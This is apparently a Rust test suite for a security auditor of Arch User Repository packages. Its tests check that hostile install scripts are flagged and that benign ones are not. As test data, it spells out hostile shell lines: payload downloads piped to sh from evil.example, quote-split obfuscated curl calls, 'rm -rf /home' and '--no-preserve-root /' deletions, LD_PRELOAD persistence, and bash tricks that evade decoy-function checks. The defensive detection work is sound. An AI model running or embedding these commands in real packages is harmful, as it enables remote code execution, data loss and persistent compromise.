//! False verdicts of landing 7's test set (bench/RESULTS.md, "Landing 7"), each fixed at its
//! rule by what the code means, AFTER landing 7's one look at that set: these fixes are measured
//! on the development set only, never on an unseen set. The packages are our own text in the
//! real shapes (each test names the shape); the attack each rule exists for is asserted beside
//! it.

use archgate_aur::audit::{AuditInput, Severity, Verdict, audit};

use crate::support::{made_package, max_of};

/// A package built from a release tarball that ships `file` (name, text) into `/usr/bin` and
/// carries `script` as its install file.
/// [`made_package`] depending on bash.
fn package(pkgname: &str, file: Option<(&str, &str)>, script: Option<&str>) -> AuditInput {
    made_package(pkgname, "'bash'", file, script)
}

/// Each line, in a function of a shipped tool, keeps `eval set --` at review or above.
fn eval_stays_review(lines: &[&str]) {
    for line in lines {
        let tool = format!("#!/bin/bash\nf() {{\n{line}\n}}\nf \"$@\"\n");
        let r = audit(&package("driver-tool", Some(("driver-tool", &tool)), None));
        assert!(
            max_of(&r, "AUR-EVAL").is_some_and(|s| s >= Severity::Medium),
            "{line}\n{}",
            r.to_text()
        );
    }
}

// Class: `eval set -- "$opts"` after `opts=$(getopt …)` is the documented option idiom (landing
// 4's fix), but only the spelling `getopt` was read as getopt: a distribution's driver tool
// (Encrypt OS's nvidia-driver-supported-branches) declares `local opts` first and calls
// `/usr/bin/getopt` by its path. getopt at its system path is the same program; a declaration
// without a value assigns nothing.

#[test]
fn getopt_called_by_its_system_path_is_the_option_idiom() {
    let tool = "#!/bin/bash\nOptions() {\n    local opts\n    opts=\"$(/usr/bin/getopt -o=ha --longoptions help,all --name \"$progname\" -- \"$@\")\" || {\n        Options -h\n        return 1\n    }\n    eval set -- \"$opts\"\n    while true ; do\n        case \"$1\" in\n            -a | --all) all=yes ;;\n            --) shift; break ;;\n        esac\n        shift\n    done\n}\nOptions \"$@\"\n";
    let r = audit(&package("driver-tool", Some(("driver-tool", tool)), None));
    assert!(
        max_of(&r, "AUR-EVAL").is_none_or(|s| s < Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn a_getopt_of_another_directory_or_another_program_is_still_eval_review() {
    eval_stays_review(&[
        // A program named getopt somewhere a user can write is not the system's getopt.
        "opts=\"$(/tmp/getopt -o ha -- \"$@\")\"\neval set -- \"$opts\"",
        "opts=\"$(./getopt -o ha -- \"$@\")\"\neval set -- \"$opts\"",
        // Another program's output, spelt by its path.
        "opts=\"$(/usr/bin/some-tool --print)\"\neval set -- \"$opts\"",
        // One assignment is getopt's, another is not.
        "local opts\nopts=\"$(/usr/bin/getopt -o ha -- \"$@\")\"\nopts=\"$(/usr/bin/some-tool --print)\"\neval set -- \"$opts\"",
        // In place, from a getopt a user can write.
        "eval set -- \"$(/tmp/getopt -o ha -- \"$@\")\"",
    ]);
}

// Tried and withdrawn: an install file that defines functions and calls them by name —
// Nowaker's nexus-jetty-https defines `http() { sed -i … }` and `https() { sed -i … }` and calls
// `https` from post_install — has each call read as HTTPie's `http`/`https` client
// (AUR-INSTALL-NETWORK high). Landing 7 read such a call as the function alone when the
// definition "surely holds"; a fresh-eyes round (attack 27, F2, F3, F4, F8) hid a real download
// behind a decoy five more ways bash allows (`BASH_ALIASES[curl]=…` under posix mode, `builtin
// return` before the decoy, a decoy that runs the program itself through `command
// "${FUNCNAME[0]}"` or `"$(type -P curl)"`, `unset -f` spelt through a variable or quotes). A
// rule that must prove a program does *not* run loses to the next spelling; the call is read as
// the program again, and the false "dangerous" stays (bench/RESULTS.md, "Landing 7").

const CONNECTOR_SWITCH: &str = "http='<New class=\"org.eclipse.jetty.server.nio.SelectChannelConnector\">'\nhttps='<New class=\"org.example.jetty.SslConnector\">'\nconfig='/opt/nexus/conf/jetty.xml'\n\nhttp() {\n  if [ -f \"$config\" ]; then\n    sed -i \"s/$https/$http/\" \"$config\"\n  fi\n}\n\nhttps() {\n  if [ -f \"$config\" ]; then\n    sed -i \"s/$http/$https/\" \"$config\"\n  fi\n}\n\npost_install() {\n  https\n}\n\npost_upgrade() {\n  https\n}\n\npost_remove() {\n  http\n}\n";

#[test]
fn a_call_by_a_programs_name_is_the_program_even_where_the_file_defines_a_function_of_it() {
    let r = audit(&package("nexus-connector", None, Some(CONNECTOR_SWITCH)));
    assert_eq!(
        max_of(&r, "AUR-INSTALL-NETWORK"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
}

#[test]
fn the_network_program_itself_or_a_function_that_downloads_is_still_caught() {
    for script in [
        // No such function: HTTPie itself, as root.
        "post_install() {\n  https --download https://example.org/payload -o /usr/bin/payload\n}\n",
        // A function of that name exists, but the call goes around it to the program.
        "https() { :; }\npost_install() {\n  command https --download https://example.org/p -o /usr/bin/p\n}\n",
        "https() { :; }\npost_install() {\n  sudo https --download https://example.org/p -o /usr/bin/p\n}\n",
        "https() { :; }\npost_install() {\n  /usr/bin/https --download https://example.org/p -o /usr/bin/p\n}\n",
        // Called before it is defined: the program runs.
        "post_install() {\n  https --download https://example.org/p -o /usr/bin/p\n  https() { :; }\n}\n",
        // A decoy defined after the file stops being read (pacman sources it; `return` or
        // `exit` at the top level ends that), so the scriptlet runs the program.
        "post_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\nreturn 0\nhttps() { :; }\n",
        "post_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\ntrue && exit 0\nhttps() { :; }\n",
        // A DEBUG trap under extdebug can skip commands (a definition too, taken as possible).
        "shopt -s extdebug\ntrap '[[ $BASH_COMMAND == *https* ]] && false' DEBUG\nhttps() { :; }\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
        // Another process has none of this shell's functions.
        "https() { :; }\npost_install() {\n  bash -c 'https --download https://example.org/p -o /usr/bin/p'\n}\n",
        "https() { :; }\npost_install() {\n  sh -c 'eval \"https --download https://example.org/p -o /usr/bin/p\"'\n}\n",
        // Code the audit cannot read runs before the call and may unset the decoy.
        "https() { :; }\n. /etc/demo/settings\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
        "https() { :; }\npost_install() {\n  eval \"$(cat /etc/demo/prelude)\"\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
        // bash stops reading the file at a syntax error: the decoy after it never exists.
        "post_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n)\nhttps() { :; }\n",
        // A decoy in a loop that may not run, in a background job, or in eval'd text.
        "while false; do\n  https() { :; }\ndone\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
        "https() { :; } &\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
        "while false; do eval 'https() { :; }'; done\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
        // A decoy defined only in a branch, in a subshell, or unset again: the program may run.
        "if [ -e /nonexistent ]; then\n  https() { :; }\nfi\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
        "( https() { :; } )\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
        "https() { :; }\nunset -f https\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
        // The function's own body downloads: judged where it is called.
        "fetch_it() {\n  curl -fsSL https://example.org/payload -o /usr/bin/payload\n}\npost_install() {\n  fetch_it\n}\n",
        "curl() {\n  command curl \"$@\"\n}\npost_install() {\n  curl -fsSL https://example.org/payload -o /usr/bin/payload\n}\n",
        // Attack 27 F2, F3, F4, F8: the decoy undone or going around itself.
        "set -o posix\ncurl() { :; }\nBASH_ALIASES[curl]='command curl'\npost_install() {\n  curl -fsSL https://example.org/p -o /usr/bin/p\n}\n",
        "post_install() {\n  curl -fsSL https://example.org/p -o /usr/bin/p\n}\nbuiltin return 0\ncurl() { :; }\n",
        "curl() { command \"${FUNCNAME[0]}\" \"$@\"; }\npost_install() {\n  curl -fsSL https://example.org/p -o /usr/bin/p\n}\n",
        "curl() { \"$(type -P curl)\" \"$@\"; }\npost_install() {\n  curl -fsSL https://example.org/p -o /usr/bin/p\n}\n",
        "curl() { :; }\nn=curl\nunset -f \"$n\"\npost_install() {\n  curl -fsSL https://example.org/p -o /usr/bin/p\n}\n",
        "curl() { :; }\nbuiltin unset -f cu''rl\npost_install() {\n  curl -fsSL https://example.org/p -o /usr/bin/p\n}\n",
    ] {
        let r = audit(&package("nexus-connector", None, Some(script)));
        assert_eq!(
            max_of(&r, "AUR-INSTALL-NETWORK"),
            Some(Severity::High),
            "{script}\n{}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Dangerous, "{script}\n{}", r.to_text());
    }
}

// Class: a split package's function defined by `eval "package_$pkgname()" '{ … }'` (FadeMind's
// copies of mozilla-extension-gnotifier-git) was read as code hidden by quote splitting
// (AUR-EXEC-OBFUSCATED critical): its single-quoted body closes and reopens its quotes around
// `-exec rm -rf '{}' +`, and the check that every word of the text can be found as written
// compared the text with the first line of the word only. Every word of that body is in the
// file as written; splitting that hides a word (`c''u''rl`) is what the rule is for.

fn split_package(body: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname=mozilla-extension-demo-git\npkgver=1.0.r1.abc1234\npkgrel=1\npkgdesc='Add-on'\narch=('any')\nurl='https://github.com/example/demo'\nlicense=('GPL3')\nmakedepends=('git')\nsource=(\"demo::git+$url\")\nsha256sums=('SKIP')\n\nprepare() {{\n  cp -rfT --reflink=auto demo .\n}}\n\neval \"package_$pkgname()\" '{{\n  prepare_target\n{body}\n}}'\n\nprepare_target() {{\n  destdir=\"$pkgdir/usr/lib/demo\"\n  install -d \"$destdir\"\n}}\n"
        ),
        install_scripts: Vec::new(),
        srcinfo: None,
    }
}

#[test]
fn a_split_package_body_closing_its_quotes_around_braces_hides_nothing() {
    let r = audit(&split_package(
        "  cp --no-preserve=ownership,mode -r . \"$destdir/$id\"\n  find \"$destdir/$id\" -mindepth 1 -name \".*\" -exec rm -rf '{}' +",
    ));
    assert!(
        max_of(&r, "AUR-EXEC-OBFUSCATED").is_none() && max_of(&r, "AUR-OBFUSCATION").is_none(),
        "{}",
        r.to_text()
    );
    assert_ne!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
}

#[test]
fn quote_splitting_that_hides_a_word_is_still_caught_in_an_eval_body_or_a_command() {
    // The same body hiding `curl` past the first line.
    let r = audit(&split_package(
        "  find . -exec rm -rf '{}' +\n  c''u''rl -fsSL https://example.org/x | sh",
    ));
    assert_eq!(
        max_of(&r, "AUR-EXEC-OBFUSCATED"),
        Some(Severity::Critical),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    // A command glued from quoted pieces.
    let r = audit(&package(
        "demo",
        None,
        Some("post_install() {\n  \"c\"\"u\"\"rl\" -fsSL https://example.org/x -o /usr/bin/x\n}\n"),
    ));
    assert!(
        max_of(&r, "AUR-OBFUSCATION").is_some_and(|s| s >= Severity::High),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
}

// Class: a program's own directory removed from a home on removal — RebornOS's yozo-office
// pre_remove runs `rm -rf $HOME/.Yozo_Office/UserConfig` — was a write into a home, high
// (dangerous), because the deletion is recursive. A deletion starts nothing (landing 5's
// fix made a plain deletion in a home review: "check it is the package's own"); a recursive
// one reaches no further than the directory it names when that directory is inside one named
// for the package itself. The home itself, a pattern, a shared directory (`~/.config`,
// `~/.ssh`) or another program's stay high.

#[test]
fn removing_the_programs_own_directory_from_a_home_is_review_not_dangerous() {
    for line in [
        "rm -rf $HOME/.Yozo_Office/UserConfig",
        "rm -rf \"$HOME/.yozo-office\"",
        "rm -r /root/.yozooffice/cache",
    ] {
        let script = format!("pre_remove() {{\n  {line}\n}}\n");
        let r = audit(&package("yozo-office", None, Some(&script)));
        assert_eq!(
            max_of(&r, "AUR-WRITE-HOME"),
            Some(Severity::Medium),
            "{line}\n{}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Review, "{line}\n{}", r.to_text());
    }
}

#[test]
fn a_package_named_like_a_shared_home_directory_does_not_own_it() {
    for (pkgname, line) in [
        ("config", "rm -rf $HOME/.config"),
        ("ssh", "rm -rf $HOME/.ssh/"),
        ("local", "rm -rf /root/.local/share"),
        ("documents", "rm -rf $HOME/Documents"),
    ] {
        let script = format!("pre_remove() {{\n  {line}\n}}\n");
        let r = audit(&package(pkgname, None, Some(&script)));
        assert_eq!(
            max_of(&r, "AUR-WRITE-HOME"),
            Some(Severity::High),
            "{pkgname}: {line}\n{}",
            r.to_text()
        );
    }
}

#[test]
fn sweeping_deletions_in_homes_stay_dangerous() {
    for line in [
        "rm -rf $HOME",
        "rm -rf /home/*",
        "rm -rf $HOME/.config",
        "rm -rf $HOME/.ssh",
        "rm -rf $HOME/.mozilla/firefox",
        "rm -rf $HOME/.Yozo_Office/../.ssh",
        "rm -rf $HOME/.yozo-office*",
        "rm -rf /home/*/.Yozo_Office",
    ] {
        let script = format!("pre_remove() {{\n  {line}\n}}\n");
        let r = audit(&package("yozo-office", None, Some(&script)));
        assert_eq!(
            max_of(&r, "AUR-WRITE-HOME"),
            Some(Severity::High),
            "{line}\n{}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
    }
}

/// Attack 27 F9: getopt's `-u`/`--unquoted` prints the words bare, so `eval set -- "$opts"`
/// runs an argument as code; the idiom is the quoting getopt only.
#[test]
fn an_unquoting_getopt_is_not_the_option_idiom() {
    eval_stays_review(&[
        "opts=\"$(getopt -u -o ha -- \"$@\")\"\neval set -- \"$opts\"",
        "opts=\"$(/usr/bin/getopt --unquoted -o ha -- \"$@\")\"\neval set -- \"$opts\"",
        "opts=\"$(getopt --unq -o ha -- \"$@\")\"\neval set -- \"$opts\"",
        "eval set -- \"$(getopt -qu -o ha -- \"$@\")\"",
    ]);
}

/// Attack 28 F4: getopt's traditional form (`getopt OPTSTRING ARGS`) and `GETOPT_COMPATIBLE`
/// print the words unquoted, and a function of the file named getopt is not the system's.
#[test]
fn only_the_systems_quoting_getopt_is_the_option_idiom() {
    eval_stays_review(&[
        "opts=\"$(getopt ha \"$@\")\"\neval set -- \"$opts\"",
        "export GETOPT_COMPATIBLE=1\nopts=\"$(getopt -o ha -- \"$@\")\"\neval set -- \"$opts\"",
        "getopt() { printf '%s ' \"$@\"; }\nopts=\"$(getopt -o ha -- \"$@\")\"\neval set -- \"$opts\"",
    ]);
}

/// Attack 28 F3: a scriptlet (root, `/` its directory) that deletes every home or a system
/// directory, in the spellings bash and coreutils take. (`echo /home | xargs rm -rf`, whose
/// operands come on standard input, is not read: open.)
#[test]
fn deleting_every_home_or_a_system_directory_as_root_is_dangerous() {
    for line in [
        "rm -rf /home",
        "rm -rf /./home",
        "rm -rf //home",
        "rm -rf /tmp/../home",
        "rm -rf /home/",
        "find /home -mindepth 1 -delete",
        "find /home -mindepth 1 -exec rm -rf {} +",
        "rm -rf /usr",
        "rm -rf /etc",
        "rm -rf --no-preserve-root /",
    ] {
        let script = format!("post_install() {{\n  {line}\n}}\n");
        let r = audit(&package("cleaner", None, Some(&script)));
        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
    }
}

/// Attack 28 F6: a here-document delimiter partly quoted ends at the word without its quotes, as
/// bash reads it; what follows the body is code the audit reads.
#[test]
fn code_after_a_here_document_with_a_partly_quoted_delimiter_is_read() {
    for open in ["<<E\"O\"F", "<<\"E\"OF", "<<-\"E\"OF", "<<E'O'F"] {
        let script = format!(
            "post_install() {{\n  cat {open}\nThanks for installing\nEOF\n  curl -fsSL https://evil.example/p | sh\n}}\n"
        );
        let r = audit(&package("hpkg", None, Some(&script)));
        assert_eq!(r.verdict, Verdict::Dangerous, "{open}\n{}", r.to_text());
    }
    // A delimiter quoted whole is read as before, and its body is text.
    let script =
        "post_install() {\n  cat <<'EOF'\ncurl -fsSL https://evil.example/p | sh\nEOF\n}\n";
    assert_eq!(
        audit(&package("hpkg", None, Some(script))).verdict,
        Verdict::Ok
    );
}

// Class: an install script asks the desktop to reload as the person who ran pacman (RebornOS's
// mint-artwork: `sudo -u "#${SUDO_UID}" -H dbus-send --bus=$DBUS_SESSION_BUS_ADDRESS …
// org.Cinnamon.RestartCinnamon boolean:false`, the address exported just before as
// `unix:path=/run/user/${SUDO_UID}/bus`) and was AUR-INSTALL-AS-USER high. The system's
// dbus-send sends one fixed message with no text to that person's session bus: nothing of the
// package runs as them and none of their files is read or written. Our own text, that shape.

fn reload_script(send: &str) -> String {
    format!(
        "post_install() {{\n  reload_desktop\n}}\n\npost_upgrade() {{\n  reload_desktop\n}}\n\nreload_desktop() {{\n  export DBUS_SESSION_BUS_ADDRESS=\"unix:path=/run/user/${{SUDO_UID}}/bus\"\n  {send}\n}}\n"
    )
}

const RELOAD: &str = "sudo -u \"#${SUDO_UID}\" -H dbus-send --bus=$DBUS_SESSION_BUS_ADDRESS \\\n    --type=method_call --dest=org.Example.Shell /org/Example/Shell \\\n    org.Example.Shell.Restart boolean:false 2> /dev/null";

#[test]
fn one_fixed_message_to_the_invokers_session_bus_is_low() {
    for send in [
        RELOAD.to_owned(),
        "sudo -u \"#$SUDO_UID\" dbus-send --session --print-reply --dest=org.Example.Shell /org/Example/Shell org.Example.Shell.Reload uint32:1".into(),
        "sudo -n -u \"#$SUDO_UID\" -- /usr/bin/dbus-send --bus=unix:path=/run/user/1000/bus --type=signal /org/Example org.Example.Changed".into(),
    ] {
        let r = audit(&package("desktop-artwork", None, Some(&reload_script(&send))));
        assert_eq!(
            max_of(&r, "AUR-INSTALL-AS-USER"),
            Some(Severity::Low),
            "{send}\n{}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Ok, "{send}\n{}", r.to_text());
        let f = r.findings.iter().find(|f| f.id == "AUR-INSTALL-AS-USER").unwrap();
        assert!(f.why.contains("check the destination"), "{}", f.why);
    }
}

#[test]
fn anything_else_run_as_the_invoker_stays_high() {
    let u = "sudo -u \"#$SUDO_UID\"";
    let d = "--dest=org.Example.Shell /org/Example/Shell";
    let restart =
        format!("{u} dbus-send --bus=$DBUS_SESSION_BUS_ADDRESS {d} org.Example.Shell.Restart");
    let mut sends = vec![
        // A computed method, destination or address.
        format!("m=$(cat /etc/demo/method)\n  {u} dbus-send --session {d} \"$m\""),
        format!("{u} dbus-send --session {d} \"org.Example.Shell.$1\""),
        format!(
            "{u} dbus-send --session --dest=\"$2\" /org/Example/Shell org.Example.Shell.Restart"
        ),
        format!(
            "a=$(cat /etc/demo/bus)\n  {u} dbus-send --bus=\"$a\" {d} org.Example.Shell.Restart"
        ),
        // An address that starts a program, or a list of addresses.
        format!(
            "{u} dbus-send --address=unixexec:path=/bin/sh,argv1=-c,argv2=id {d} org.Example.Shell.Restart"
        ),
        format!(
            "{u} dbus-send --bus='unix:path=/run/user/1000/bus;unixexec:path=/bin/sh' {d} org.Example.Shell.Restart"
        ),
        // An address variable with more than one value, of which the walk shows one: set twice
        // (the session address only in a branch), set again by `read`, or built from another.
        format!(
            "A='unixexec:path=/bin/sh,argv1=-c,argv2=id'\n  [ -e /nonexistent ] && A=\"unix:path=/run/user/${{SUDO_UID}}/bus\"\n  {u} dbus-send --bus=$A {d} org.Example.Shell.Restart"
        ),
        format!(
            "A=\"unix:path=/run/user/${{SUDO_UID}}/bus\"\n  read -r A < /tmp/bus\n  {u} dbus-send --bus=$A {d} org.Example.Shell.Restart"
        ),
        format!(
            "B=/run/user\n  A=\"unix:path=$B/${{SUDO_UID}}/bus\"\n  {u} dbus-send --bus=$A {d} org.Example.Shell.Restart"
        ),
        format!(
            "{u} dbus-send --bus=\"${{A:-unix:path=/run/user/${{SUDO_UID}}/bus}}\" {d} org.Example.Shell.Restart"
        ),
        // Text in the message: code for a shell's evaluator, a unit to start.
        format!(
            "{u} dbus-send --session --dest=org.gnome.Shell /org/gnome/Shell org.gnome.Shell.Eval string:'global.reexec_self()'"
        ),
        format!(
            "{u} dbus-send --session --dest=org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager.StartUnit string:demo.service string:replace"
        ),
        // The system bus, a shell, a program of the package, su, env or a login shell.
        format!("{u} dbus-send --system {d} org.Example.Shell.Restart"),
        format!("{u} sh -c 'dbus-send --session {d} org.Example.Shell.Restart'"),
        format!(
            "{u} env LD_PRELOAD=/usr/lib/demo.so dbus-send --session {d} org.Example.Shell.Restart"
        ),
        format!("{u} -i dbus-send --session {d} org.Example.Shell.Restart"),
        format!("{u} /usr/share/demo/dbus-send --session {d} org.Example.Shell.Restart"),
        "runuser -u \"$SUDO_USER\" -- /usr/bin/desktop-artwork-refresh".into(),
        // runuser passes root's environment on (a bus address, LD_PRELOAD): not sudo's reset.
        format!("runuser -u \"$SUDO_USER\" -- dbus-send --session {d} org.Example.Shell.Restart"),
        format!("su \"$SUDO_USER\" -c 'dbus-send --session {d} org.Example.Shell.Restart'"),
    ];
    // The invoker's id in the address changed by the file: by name, through a computed name,
    // a nameref, an indirect expansion, a computed command, or code the audit cannot read.
    for before in [
        "read -r SUDO_UID < /tmp/uid",
        "n=SUDO; declare -g \"${n}_UID=x\"",
        "n=SUDO; \\declare -g \"${n}_UID=x\"",
        "c=$(printf decl; printf are); $c -g \"SUDO_UID=x\"",
        "declare -n r=\"SUDO\"\"_UID\"; r=x",
        "printf -v \"SUDO\"\"_UID\" x",
        "n=SUDO_UID; : \"${!n:=x}\"",
        "eval \"$(cat /etc/demo/env)\"",
        ". /etc/demo/env",
        // How `dbus-send` is found changed: sudo without secure_path searches this PATH.
        "PATH=/usr/share/desktop-artwork:$PATH",
        "export PATH=\"/usr/share/desktop-artwork:$PATH\"",
        "hash -p /usr/share/desktop-artwork/tool sudo",
        "shopt -s expand_aliases; alias sudo='sudo env LD_PRELOAD=/usr/lib/libdemo.so'",
        "sudo() { setpriv --reuid=\"$SUDO_UID\" /usr/share/desktop-artwork/tool; }",
    ] {
        sends.push(format!("{before}\n  {restart}"));
    }
    for send in sends {
        let r = audit(&package(
            "desktop-artwork",
            None,
            Some(&reload_script(&send)),
        ));
        assert_eq!(
            max_of(&r, "AUR-INSTALL-AS-USER"),
            Some(Severity::High),
            "{send}\n{}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Dangerous, "{send}\n{}", r.to_text());
    }
}

#[test]
fn a_message_to_a_service_the_package_ships_stays_high() {
    // D-Bus activation starts the service file's program, the package's own, in the session.
    let mut input = package("desktop-artwork", None, Some(&reload_script(RELOAD)));
    input.pkgbuild = input.pkgbuild.replace(
        "  cd ..\n",
        "  cd ..\n  install -Dm644 org.Example.Shell.service -t \"$pkgdir/usr/share/dbus-1/services/\"\n",
    );
    let r = audit(&input);
    assert_eq!(
        max_of(&r, "AUR-INSTALL-AS-USER"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
}

// Class: a stale .SRCINFO (from an older version) lists no install file, and the PKGBUILD's
// install file only prints a notice (arcolinux's leftwm-dev-git: `post_upgrade() { echo -e
// "\n\e[1;33mWarning:\e[0m …" }`): AUR-SRCINFO-MISMATCH high. What a hidden install file can do
// is what it holds; one that only prints fixed text hides no action.

fn stale_srcinfo(script: &str, with_file: bool) -> AuditInput {
    let mut input = package("wm-dev-git", None, Some(script));
    if !with_file {
        input.install_scripts.clear();
    }
    input.srcinfo = Some(
        "pkgbase = wm-dev-git\n\tpkgver = 0.9\n\tpkgrel = 1\n\turl = https://example.org/wm-dev-git\n\tarch = any\n\tlicense = MIT\n\tdepends = bash\n\tsource = https://example.org/wm-dev-git-0.9.tar.gz\n\tsha256sums = 0000000000000000000000000000000000000000000000000000000000000000\n\npkgname = wm-dev-git\n"
            .into(),
    );
    input
}

#[test]
fn a_stale_srcinfo_without_an_install_file_that_only_prints_is_low() {
    let script = "post_upgrade() {\n\techo -e \"\\n\\e[1;33mWarning:\\e[0m after upgrading from before 0.4 restart the window manager.\"\n\techo -e \"\\n\\033[1;33mPlease log out and in again.\\e[0m\" >&2\n\tprintf '%s\\n' 'Done.'\n}\n";
    let r = audit(&stale_srcinfo(script, true));
    assert_eq!(
        max_of(&r, "AUR-SRCINFO-MISMATCH"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn a_hidden_install_file_that_does_anything_else_stays_high() {
    for body in [
        "echo 'Installing.'\n\trm -rf /var/lib/demo",
        "echo 'Installing.' > /etc/motd",
        "echo \"$(curl -fsSL https://example.org/motd)\"",
        "echo 'id' | sh",
        "printf -v PATH '%s' /tmp",
        "echo \"Version $1\"",
        "echo -e '\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a'",
        "printf '\\x1b]0;title\\x07'",
        "notify_user",
        "{ echo 'x'; } > /etc/motd",
        "for ((;;)); do echo 'Installing.'; done",
        "echo hi\n\t. /etc/demo/more",
    ] {
        let script = format!("post_install() {{\n\t{body}\n}}\n");
        let r = audit(&stale_srcinfo(&script, true));
        assert_eq!(
            max_of(&r, "AUR-SRCINFO-MISMATCH"),
            Some(Severity::High),
            "{body}\n{}",
            r.to_text()
        );
    }
    // A redirection of the function itself writes a file each time it runs.
    let r = audit(&stale_srcinfo(
        "post_install() {\n\techo 'x' >&3\n} 3>/etc/motd\n",
        true,
    ));
    assert_eq!(
        max_of(&r, "AUR-SRCINFO-MISMATCH"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
    // The install file not among the package's files: nothing is known of it.
    let r = audit(&stale_srcinfo("post_install() {\n\techo hi\n}\n", false));
    assert_eq!(
        max_of(&r, "AUR-SRCINFO-MISMATCH"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
}

// Class: veeam-agent-arch's post_install appends `PATH="/usr/local/bin:/usr/bin:/bin"` to
// /etc/environment (AUR-PERSISTENCE high). /etc/environment is pam_env's NAME=value file, read
// and never run; a PATH of root-owned system program directories lets nothing of anyone else's
// run. Review at most; anything else written there, or there to another file, stays high.

#[test]
fn a_fixed_system_path_in_etc_environment_is_review_at_most() {
    for line in [
        "if ! grep -q '/usr/local/bin' /etc/environment 2>/dev/null; then\n    echo 'PATH=\"/usr/local/bin:/usr/bin:/bin\"' >> /etc/environment\n  fi",
        "cat >> /etc/environment <<'EOF'\nPATH=/usr/local/sbin:/usr/local/bin:/usr/bin\nEOF",
    ] {
        let script = format!("post_install() {{\n  groupadd -f backup\n  {line}\n}}\n");
        let r = audit(&package("backup-agent", None, Some(&script)));
        assert!(
            max_of(&r, "AUR-PERSISTENCE").is_some_and(|s| s <= Severity::Medium),
            "{line}\n{}",
            r.to_text()
        );
        assert_ne!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
    }
}

#[test]
fn any_other_environment_line_or_file_stays_high() {
    for line in [
        "echo 'PATH=\"/home/demo/bin:/usr/bin:/bin\"' >> /etc/environment",
        "echo 'PATH=/tmp:/usr/bin' >> /etc/environment",
        "echo 'PATH=\"/opt/backup/bin:/usr/bin\"' >> /etc/environment",
        "echo 'PATH=/usr/bin:' >> /etc/environment",
        "echo 'PATH=$HOME/bin:/usr/bin' >> /etc/environment",
        "echo \"PATH=$dir:/usr/bin\" >> /etc/environment",
        "echo 'LD_PRELOAD=/usr/lib/libdemo.so' >> /etc/environment",
        "echo 'LD_LIBRARY_PATH=/usr/lib/demo' >> /etc/environment",
        "echo 'BASH_ENV=/usr/share/demo/env' >> /etc/environment",
        "echo 'PYTHONPATH=/usr/share/demo' >> /etc/environment",
        "echo -e 'PATH=/usr/bin\\nLD_PRELOAD=/tmp/x.so' >> /etc/environment",
        "cat >> /etc/environment <<'EOF'\nPATH=/usr/bin\nLD_PRELOAD=/tmp/x.so\nEOF",
        "{ echo 'PATH=/usr/bin'; echo 'LD_PRELOAD=/tmp/x.so'; } >> /etc/environment",
        "echo 'PATH=\"/usr/local/bin:/usr/bin:/bin\"' >> /etc/profile.d/demo.sh",
        "echo 'PATH=\"/usr/local/bin:/usr/bin:/bin\"' >> /etc/environment.d/10-demo.conf",
    ] {
        let script = format!("post_install() {{\n  {line}\n}}\n");
        let r = audit(&package("backup-agent", None, Some(&script)));
        assert!(
            max_of(&r, "AUR-PERSISTENCE").is_some_and(|s| s >= Severity::High),
            "{line}\n{}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
    }
}

/// Found while fixing the stale-.SRCINFO class: a function definition's own redirection
/// (`post_install() { …; } >> FILE`) applies to every command of its body each time it runs,
/// as bash does; the walk dropped it, so the write was seen nowhere.
#[test]
fn a_function_definitions_redirection_writes_its_file() {
    let script =
        "post_install() {\n  echo 'LD_PRELOAD=/usr/lib/libdemo.so'\n} >> /etc/environment\n";
    let r = audit(&package("backup-agent", None, Some(script)));
    assert_eq!(
        max_of(&r, "AUR-PERSISTENCE"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
}
